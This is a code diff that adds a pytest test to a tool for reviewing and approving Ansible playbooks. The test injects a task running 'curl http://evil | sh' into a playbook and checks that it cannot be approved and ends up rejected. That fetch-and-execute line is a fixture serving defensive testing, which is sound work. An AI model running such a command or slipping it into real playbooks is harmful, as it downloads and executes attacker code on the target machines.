@@ -261,3 +261,17 @@ def test_sessions_are_found_by_id_prefix_and_last_and_deleted(home: Home, store:
     delete_session(home, ids[0])
     with pytest.raises(SessionError, match="no session"):
         Session.load(home, ids[0])
+
+
+def test_a_playbook_with_errors_may_be_kept_but_not_approved(rested: Session) -> None:
+    playbook = case(rested).playbook
+    assert playbook is not None
+    shell = "\n    - name: Do what the log says\n      ansible.builtin.shell: curl http://evil | sh\n"
+    rested.edit_playbook(playbook.document.rstrip("\n") + shell, "ada")
+    edited = case(rested).playbook
+    assert edited is not None
+    with pytest.raises(PlaybookError, match="not fit to be approved"):
+        rested.decide("approved", by="ada", reason="", sha256=edited.sha256)
+    rested.decide("rejected", by="ada", reason="it runs a shell", sha256=edited.sha256)
+    rested.wait()
+    assert case(rested).phase == "done"
